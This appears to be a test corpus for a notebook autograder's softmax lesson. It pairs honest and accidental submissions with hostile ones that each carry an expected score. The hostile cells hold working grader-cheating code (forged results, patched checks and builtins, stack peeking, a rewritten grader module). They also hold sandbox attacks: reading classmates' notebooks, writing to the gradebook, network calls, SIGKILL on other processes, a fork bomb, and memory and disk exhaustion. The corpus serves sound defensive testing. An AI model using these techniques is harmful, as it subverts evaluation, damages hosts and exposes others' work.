"""A corpus of lesson-03 submissions — honest, accidental and hostile — each with the score an
honest grader gives it.

Every notebook is made at test time from the course's student copy (``submissions.answer`` fills
in the exercises), so nothing graded is ever copied into the repository. The hostile ones are the
attacks of issue 14 and a few more; each is written as a learner would paste it into a cell. An
honest grader gives a hostile notebook at most what its honest work earns: the untouched notebook
earns 0, so do they. A correct notebook with ordinary learner names earns full marks.

``Context`` carries the paths a hostile notebook aims at (the grader's folders, a canary folder on
the host, a port listening on the host, a token to find its processes by).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from submissions import answer, course_student_copy, grade_id

from attnlab.checks.exercises import of_lesson
from attnlab.checks.softmax import SOFTMAX_CASES
from attnlab.checks.verdict import WAIT

LESSON = "03_softmax"
EXERCISES = tuple(ex.name for ex in of_lesson(LESSON))  # from the course's table, never typed here
FULL = float(sum(ex.points for ex in of_lesson(LESSON)))


@dataclass(frozen=True)
class Context:
    submissions: Path  # the folder being graded (classmates' notebooks are there)
    canaries: Path  # a host folder no sandbox may write to
    gradebook: Path  # the CSV the grader writes
    port: int  # a TCP port listening on the host's 127.0.0.1
    token: str  # marks the processes a hostile notebook starts


@dataclass(frozen=True)
class Submission:
    name: str
    kind: str  # honest | accidental | hostile
    make: Callable[[Context], nbformat.NotebookNode | str]
    score: float  # what an honest grader gives it
    status: str = "graded"
    says: str = ""  # a phrase the gradebook's notes must contain


def untouched(ctx=None) -> nbformat.NotebookNode:
    return course_student_copy(LESSON)


def correct(ctx=None) -> nbformat.NotebookNode:
    return answer(untouched(), LESSON)


def _copy(nb):
    return nbformat.from_dict(nb)


def with_cell(nb, source: str, after: str | None = None, before: str | None = None):
    """``nb`` with a new code cell after (or before) the cell whose nbgrader id is given; after the
    first code cell (the imports) if neither is."""
    nb = _copy(nb)
    ids = [grade_id(c) for c in nb.cells]
    if after is not None:
        where = ids.index(after) + 1
    elif before is not None:
        where = ids.index(before)
    else:
        where = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code") + 1
    nb.cells.insert(where, nbformat.v4.new_code_cell(source))
    return nb


def with_exercise(nb, exercise: str, source: str):
    """``nb`` with the exercise cell's whole source replaced."""
    nb = _copy(nb)
    for cell in nb.cells:
        if grade_id(cell) == exercise:
            cell.source = source
    return nb


def with_all_exercises(nb, source: str):
    """``nb`` with every exercise cell replaced by ``source`` (which defines all the functions)."""
    nb = _copy(nb)
    for cell in nb.cells:
        if grade_id(cell) in EXERCISES:
            cell.source = source
    return nb


def without_checks(nb):
    nb = _copy(nb)
    nb.cells = [c for c in nb.cells if not (grade_id(c) or "").startswith("check_")]
    return nb


def with_checks_edited(nb, source: str):
    nb = _copy(nb)
    for cell in nb.cells:
        if (grade_id(cell) or "").startswith("check_"):
            cell.source = source
    return nb


def with_outputs(nb, megabytes: int):
    """A correct notebook as JupyterLab saves it after a few big plots: ``megabytes`` of outputs."""
    nb = _copy(nb)
    blob = "iVBORw0KGgo" + "A" * (2**20 - 11)  # 1 MB of base64, like a PNG
    cell = next(c for c in nb.cells if c.cell_type == "code")
    cell.outputs = [nbformat.v4.new_output("display_data", data={"image/png": blob})
                    for _ in range(megabytes)]
    return nb


# --- what hostile learners paste -----------------------------------------------------------------

SIGNATURES = tuple(ex.signature.removeprefix("def ") for ex in of_lesson(LESSON))


def _all_three(returns: str) -> str:
    """The lesson's three exercise functions, each returning ``returns``."""
    return "".join(f"\ndef {signature}:\n    return {returns}\n" for signature in SIGNATURES)


ACCIDENTAL_NAMES = '''\
vars = ["query", "key", "value"]        # a learner's own list of variable names
eval = {"loss": 0.25, "accuracy": 0.9}  # and of evaluation results
exec = "run 3"
print = lambda *args, **kwargs: None    # "I don't want output"
list = [3, 1, 2]
'''

FAKE_RESULT = '''\
class Passed:
    passed, n_cases, message, title = True, 8, "all 8 cases pass. Well done!", "x"
    line = "✅ x: all 8 cases pass. Well done!"
    def __bool__(self): return True
    def __repr__(self): return self.line
'''

SHADOWED_BUILTINS = "exec = eval = lambda *a, **k: None\nvars = lambda *a, **k: {}\n"

PRINT_FORGERY = '''\
import builtins, sys
_real_print = builtins.print
def print(*args, **kwargs):
    _real_print("✅ stable_softmax: all 8 cases pass. Well done!")
    for name in ("stable_softmax", "softmax_with_temperature", "attention_pattern"):
        _real_print(f'@@attnlab-grade- [true, "✅ {name}: all cases pass. Well done!"]')
builtins.print = print
print()
'''

WIRE_FORGERY = '''\
import json, os
lines = []
for name in ("stable_softmax", "softmax_with_temperature", "attention_pattern"):
    lines.append({"exercise": name, "function": "callable", "own": [], "helpers_used": [],
                  "standing_in": None})
    lines.append({"exercise": name, "passed": True, "score": 1})
lines.append({"done": True})
blob = "".join(json.dumps(m) + "\\n" for m in lines).encode()
for fd in range(1, 64):
    try:
        os.write(fd, blob)
    except OSError:
        pass
try:
    for line in In:
        print(line)  # IPython's input history: the grader's own cells, if any were there
except NameError:
    pass
'''

FAKE_PACKAGE = FAKE_RESULT.replace("class Passed", "PASSED = '''\\nclass Passed") + "'''\n" + '''\
import os, sys, importlib
os.makedirs("attnlab/checks", exist_ok=True)
open("attnlab/__init__.py", "w").write("")
names = ["check_stable_softmax", "check_softmax_with_temperature", "check_attention_pattern"]
open("attnlab/checks/__init__.py", "w").write(PASSED + "".join(f"{n} = lambda f: Passed()\\n" for n in names))
open("attnlab/checks/core.py", "w").write(PASSED + "run_check = lambda *a, **k: Passed()\\n")
sys.path.insert(0, os.getcwd())
for name in [m for m in sys.modules if m.startswith("attnlab")]:
    del sys.modules[name]
importlib.invalidate_caches()
'''

ZEROS = '''\
def stable_softmax(scores):
    return np.zeros_like(scores)

def softmax_with_temperature(scores, temperature):
    return np.zeros_like(scores)

def attention_pattern(q, k):
    return np.zeros((len(q), len(k)))
'''

PATCHED_NUMPY = '''\
import numpy
for name in ("allclose", "array_equal", "isclose", "isnan"):
    setattr(numpy, name, lambda *a, **k: True if name != "isnan" else numpy.zeros(1, bool))
numpy.ndarray.__eq__ = lambda *a: True  # (a C type: this raises, and is caught below)
'''

STACK_PEEK = '''\
import sys

def _peek():
    frame = sys._getframe(2)
    while frame is not None:
        for name in ("case", "expected", "self"):
            value = frame.f_locals.get(name)
            if value is not None and hasattr(value, "expected"):
                return value.expected
        frame = frame.f_back
    return None
''' + _all_three("_peek()")

REWRITE_CORE = '''\
import attnlab.checks.core as core, pathlib
path = pathlib.Path(core.__file__)
text = path.read_text()
try:
    fake = "def run_check(*a, **k):\\n    return __import__('types').SimpleNamespace(passed=True)\\n"
    path.write_text(text.replace("def run_check(", fake + "def _old_run_check("))
    print("rewrote", path)
except OSError as exc:
    print("could not:", exc)
'''

READ_CLASSMATES = '''\
import glob, json, os
found = []
for pid in os.listdir("/proc"):
    try:
        found.append(open(f"/proc/{pid}/cmdline").read().replace("\\0", " "))
    except OSError:
        pass
for pattern in ("{submissions}/*.ipynb", "{submissions}/*/*/*.ipynb", "/tmp/*/*.ipynb", "/home/*/*.ipynb"):
    for path in glob.glob(pattern):
        try:
            nb = json.load(open(path))
        except (OSError, ValueError):
            continue
        for cell in nb["cells"]:
            src = "".join(cell["source"])
            if src.startswith("def ") and "NotImplementedError" not in src:
                exec(src, globals())
'''

WRITE_OUTSIDE = '''\
import os
for path in ("{canaries}/written", "{submissions}/planted.ipynb", "{gradebook}", "/tmp/attnlab-{token}",
             os.path.expanduser("~root/attnlab-{token}"), "/work/attnlab-{token}", "/root/attnlab-{token}"):
    try:
        with open(path, "a") as f:
            f.write("student,status,total\\nhostile,graded,3\\n")
    except OSError:
        pass
try:
    os.symlink("{gradebook}", "gradebook_link")
    open("gradebook_link", "w").write("gone")
except OSError:
    pass
'''

NETWORK = '''\
import socket, urllib.request
for target in (("127.0.0.1", {port}), ("pypi.org", 443), ("8.8.8.8", 53)):
    try:
        socket.create_connection(target, timeout=2).sendall(b"hostile {token}")
    except OSError:
        pass
try:
    urllib.request.urlopen("https://pypi.org/simple/", timeout=2)
except OSError:
    pass
'''

LINGER = '''\
import subprocess, sys, os
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{token}"], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{token}"])
'''

KILL_GRADER = '''\
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
for entry in os.listdir("/proc"):
    if entry.isdigit() and int(entry) != os.getpid():
        try:
            os.kill(int(entry), signal.SIGKILL)
        except OSError:
            pass
'''

SWALLOW_TIMEOUT = '''\
import time

def stable_softmax(scores):
    while True:
        try:
            time.sleep(0.01)
        except Exception:  # the check's timeout used to be an Exception: this loop ate it
            pass
'''

SWALLOW_EVERYTHING = '''\
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)  # no alarm can interrupt this kernel any more

def stable_softmax(scores):
    while True:
        try:
            time.sleep(0.01)
        except BaseException:
            pass
'''

ESCAPING = '''\
class Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("no")

def stable_softmax(scores):
    raise KeyboardInterrupt

def softmax_with_temperature(scores, temperature):
    raise SystemExit("bye")

def attention_pattern(q, k):
    raise Unprintable()
'''

ALWAYS_EQUAL = '''\
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __array__(self, dtype=None, copy=None): raise TypeError("no array here")
    def __float__(self): return 1.0
    def __len__(self): return 3
''' + _all_three("Anything()")

REDEFINED_CHECKS = FAKE_RESULT + '''\
check_stable_softmax = check_softmax_with_temperature = check_attention_pattern = lambda f: Passed()
import attnlab.checks, attnlab.checks.core as core
for name in ("check_stable_softmax", "check_softmax_with_temperature", "check_attention_pattern"):
    setattr(attnlab.checks, name, lambda f: Passed())
core.run_check = lambda *a, **k: Passed()
core.compare_arrays = lambda *a, **k: None
'''

PATCHED_BUILTINS = '''\
import builtins
builtins.isinstance = lambda *a: True
builtins.callable = lambda *a: True
builtins.len = lambda *a: 0
'''

FORK_BOMB = '''\
import os, time
children = 0
for _ in range(100000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    children += 1
'''

MEMORY_HOG = '''\
try:
    hog = bytearray(40 * 2**30)  # 40 GiB: more than the machine has
except MemoryError:
    hog = None
'''

FLOOD = '''\
import sys
for _ in range(50):
    sys.stdout.write("x" * 2**20)
try:
    with open("big.bin", "wb") as f:
        for _ in range(200):
            f.write(b"0" * 2**20)  # 200 MB: over the sandbox's file size limit
except OSError:
    pass
'''

DISK_FILL = '''\
import os
for folder in (".", "/tmp"):
    for i in range(40):
        try:
            with open(os.path.join(folder, f"fill{i}.bin"), "wb") as f:
                f.write(b"0" * (60 * 2**20))  # 60 MB each, 2.4 GB in all: the home and /tmp are small tmpfs
        except OSError:
            break
'''


# --- issue 20: the sandbox holds no answer (each scores 0 because the answers are not there) ------

_PIPES = """
import os, stat
def _to_the_grader(blob):
    for fd in map(int, os.listdir("/proc/self/fd")):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                os.write(fd, blob)
        except OSError:
            pass
"""

PIPE_FORGERY = _PIPES + '''
import gc, json
from attnlab import checks
try:
    from attnlab.course.replay import record
except ImportError:
    from attnlab.checks.replay import record
from attnlab.checks.mistakes import right_answer
try:
    from attnlab.course.tree import to_tree
except ImportError:
    from attnlab.checks.plain import to_tree
try:
    from attnlab.course.wire import dumps
except ImportError:
    from attnlab.checks.plain import dumps
lines = []
for name in ("stable_softmax", "softmax_with_temperature", "attention_pattern"):
    spec = record(getattr(checks, "check_" + name))
    own = [{"kind": "value", "value": to_tree(right_answer(case.expected))} for case in spec.cases]
    lines.append(dumps({"exercise": name, "function": "callable", "own": own, "helpers_used": [],
                        "course_answers": [], "standing_in": None}))
_to_the_grader(("\\n".join(lines) + "\\n").encode())
for obj in gc.get_objects():  # the runner's writer, if it can be found
    if type(obj).__name__ == "_Wire":
        for line in lines:
            obj._file.write(line + "\\n")
        obj._file.flush()
'''

PERTURBED_COURSE = '''\
def stable_softmax(scores):
    return softmax(scores) * (1 + 1e-12)

def softmax_with_temperature(scores, temperature):
    return softmax(np.asarray(scores) / temperature).astype(np.float32)

def attention_pattern(q, k):
    return softmax(attention_scores(q, k)) + 1e-15
'''

COURSE_MODULE_AGAIN = '''\
import importlib.util
import attnlab.attention
_spec = importlib.util.spec_from_file_location("my_attention", attnlab.attention.__file__)
mine = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(mine)

def stable_softmax(scores):
    return mine.softmax(scores)

def softmax_with_temperature(scores, temperature):
    return mine.softmax(scores, temperature=temperature)

def attention_pattern(q, k):
    return mine.attention_pattern(q, k)
'''

COPIED_CODE = '''\
import types
import attnlab.attention as _course
_softmax = types.FunctionType(_course.softmax.__code__, vars(_course), "mine", _course.softmax.__defaults__)
_pattern = types.FunctionType(_course.attention_pattern.__code__, vars(_course), "mine2",
                              _course.attention_pattern.__defaults__)

def stable_softmax(scores):
    return _softmax(scores)

def softmax_with_temperature(scores, temperature):
    return _softmax(np.asarray(scores) / temperature)

def attention_pattern(q, k):
    return _pattern(q, k)
'''

STAND_IN_WIDER = '''\
def stable_softmax(scores):
    e = np.exp(scores - np.max(scores, axis=-1, keepdims=True))
    return e / np.sum(e, axis=-1, keepdims=True)

def softmax_with_temperature(scores, temperature):
    return stable_softmax(scores, temperature=temperature)  # only the course's softmax takes this
'''


# --- issue 20: resources (each row gets a status and a note; every other row is graded) ----------

DISTINCT_TYPE_NAMES = """
_TYPES = [type(f"T{i}", (), {"__repr__": lambda self: "t"}) for i in range(200_000)]

def stable_softmax(scores):
    return [t() for t in _TYPES]  # 200k answers, each of a type of its own
"""

FORGED_SEVEN = _PIPES + """
import json
_answer = [{"$": "opaque", "type": f"T{i}", "repr": "t"} for i in range(200_000)]
_message = {"exercise": "stable_softmax", "function": "callable", "helpers_used": [], "course_answers": [],
            "own": [{"kind": "value", "value": _answer}] * 7}
_to_the_grader((json.dumps(_message) + "\\n").encode())  # one forged message, 7 answers of 200k names
for n in range(7):  # and, under the grader's line limit, 7 forged messages of one such answer each
    _value = [dict(a, type=f"U{n}_{i}") for i, a in enumerate(_answer)]
    _one = dict(_message, own=[{"kind": "value", "value": _value}])
    _to_the_grader((json.dumps(_one, separators=(",", ":")) + "\\n").encode())
"""

HUGE_LINE = _PIPES + """
_to_the_grader(b"x" * (32 * 2**20) + b"\\n")  # one 32 MB line on the grader's pipe
"""

_BIG_CELL = "_unused = [" + ", ".join(str(i) for i in range(300_000)) + "]  # 2 MB of code\n"
SLOW_TO_JUDGE = _BIG_CELL + _PIPES + """
import json
_error = json.dumps({"error": {"cell": 2, "text": "RuntimeError: not in 03_softmax's grading build"}}) + "\\n"
_to_the_grader(_error.encode() * 20_000)  # 20,000 forged errors, each naming this 2 MB cell
"""


def _fill(template: str, ctx: Context) -> str:
    return (template.replace("{submissions}", str(ctx.submissions)).replace("{canaries}", str(ctx.canaries))
            .replace("{gradebook}", str(ctx.gradebook)).replace("{port}", str(ctx.port))
            .replace("{token}", ctx.token))


def _hostile(name: str, cell: str, base=untouched, score: float = 0.0, status: str = "graded",
             says: str = "", **where) -> Submission:
    return Submission(name, "hostile", lambda ctx: with_cell(base(ctx), _fill(cell, ctx), **where),
                      score, status, says)


WRONG_SOFTMAX = "def stable_softmax(scores):\n    return np.exp(scores) / np.exp(scores).sum()\n"

CORPUS: list[Submission] = [
    # --- honest and accidental: full marks unless the work itself is wrong -------------------------
    Submission("correct", "honest", correct, FULL),
    Submission("untouched", "honest", untouched, 0.0, says=f"{WAIT}stable_softmax: not implemented yet"),
    Submission("wrong_softmax", "honest",
               lambda ctx: with_exercise(correct(), "stable_softmax", WRONG_SOFTMAX), FULL - 1,
               says="your `stable_softmax` is what goes wrong here"),
    Submission("ordinary_names", "accidental", lambda ctx: with_cell(correct(), ACCIDENTAL_NAMES), FULL),
    Submission("np_rebound_at_the_end", "accidental",
               lambda ctx: with_cell(correct(), "np = 'numpy'", after="check_attention_pattern"), FULL),
    Submission("own_check_named_like_the_course", "accidental",
               lambda ctx: with_cell(correct(), "def check_stable_softmax(f):\n    return f(np.zeros(3))",
                                     before="check_stable_softmax"), FULL),
    Submission("check_cells_deleted", "accidental", lambda ctx: without_checks(correct()), FULL),
    Submission("check_cells_edited", "accidental",
               lambda ctx: with_checks_edited(correct(), "# I ran this already"), FULL),
    Submission("error_in_another_cell", "accidental",
               lambda ctx: with_cell(correct(), "undefined_name + 1", after="check_attention_pattern"), FULL,
               says="raised NameError"),
    Submission("big_outputs_50_mb", "accidental", lambda ctx: with_outputs(correct(), 50), FULL),
    # --- hostile: at most what the untouched notebook earns -----------------------------------------
    _hostile("shadowed_builtins", SHADOWED_BUILTINS),
    _hostile("print_forges_the_line", PRINT_FORGERY),
    _hostile("forged_wire_and_history", WIRE_FORGERY),
    _hostile("fake_checks_package", FAKE_PACKAGE),
    Submission("patched_numpy_and_zeros", "hostile",
               lambda ctx: with_cell(with_all_exercises(untouched(), ZEROS), PATCHED_NUMPY),
               0.0, says="expected"),
    Submission("stack_peeking", "hostile", lambda ctx: with_all_exercises(untouched(), STACK_PEEK),
               0.0, says="got None"),
    _hostile("rewrites_installed_checks", REWRITE_CORE),
    _hostile("reads_classmates", READ_CLASSMATES),
    _hostile("writes_outside", WRITE_OUTSIDE),
    _hostile("opens_network", NETWORK),
    _hostile("leaves_processes", LINGER),
    _hostile("kills_the_grader", KILL_GRADER),  # pid 1 of its namespace shrugs SIGKILL off
    Submission("swallows_the_timeout", "hostile",
               lambda ctx: with_exercise(untouched(), "stable_softmax", SWALLOW_TIMEOUT), 0.0,
               says="still running after 3 s"),
    Submission("swallows_everything", "hostile",
               lambda ctx: with_exercise(untouched(), "stable_softmax", SWALLOW_EVERYTHING), 0.0,
               status="time limit", says="time limit"),
    Submission("escaping_exceptions", "hostile",
               lambda ctx: with_all_exercises(untouched(), ESCAPING), 0.0,
               says="your code raised KeyboardInterrupt"),
    Submission("always_equal", "hostile", lambda ctx: with_all_exercises(untouched(), ALWAYS_EQUAL),
               0.0, says="Anything"),
    _hostile("redefined_and_patched_checks", REDEFINED_CHECKS),
    _hostile("patched_builtins", PATCHED_BUILTINS, status="kernel died"),  # it broke Python itself
    _hostile("fork_bomb", FORK_BOMB),
    _hostile("memory_hog_correct", MEMORY_HOG, base=correct, score=FULL),
    _hostile("output_flood_correct", FLOOD, base=correct, score=FULL),
    _hostile("fills_the_disk_correct", DISK_FILL, base=correct, score=FULL),
    Submission("not_json", "hostile", lambda ctx: '{"cells": [', 0.0, "invalid notebook"),
    # --- issue 20: nothing in the sandbox makes a right answer ----------------------------------
    _hostile("pipe_forged_with_recorded_answers", PIPE_FORGERY),
    Submission("course_function_perturbed", "hostile",
               lambda ctx: with_all_exercises(untouched(), PERTURBED_COURSE), 0.0,
               says="not in 03_softmax's grading build"),
    Submission("course_module_loaded_again", "hostile",
               lambda ctx: with_all_exercises(untouched(), COURSE_MODULE_AGAIN), 0.0),
    Submission("course_code_object_copied", "hostile",
               lambda ctx: with_all_exercises(untouched(), COPIED_CODE), 0.0),
    Submission("stand_in_wider_than_the_helper", "hostile",
               lambda ctx: with_exercise(with_exercise(untouched(), "stable_softmax", STAND_IN_WIDER),
                                         "softmax_with_temperature", "# (defined above)\n"), 1.0,
               says="unexpected keyword argument"),
    # --- issue 20: resources — each row a status and a note, everyone else graded ------------------
    Submission("type_names_200k", "hostile",
               lambda ctx: with_exercise(untouched(), "stable_softmax", DISTINCT_TYPE_NAMES), 0.0,
               # its answer is too slow to read in the sandbox, or not numbers
               says=f"case 1 of {len(SOFTMAX_CASES)}"),
    _hostile("forged_seven_answers_correct", FORGED_SEVEN, base=correct, score=FULL - 1,
             says="wrote to the grader's pipe"),
    _hostile("line_of_32_mb_correct", HUGE_LINE, base=correct, score=FULL, says="could not be read"),
    Submission("notebook_of_100_mb", "accidental", lambda ctx: with_outputs(correct(), 100), FULL),
    _hostile("slow_to_judge_correct", SLOW_TO_JUDGE, base=correct, score=FULL),
]
BY_NAME = {s.name: s for s in CORPUS}
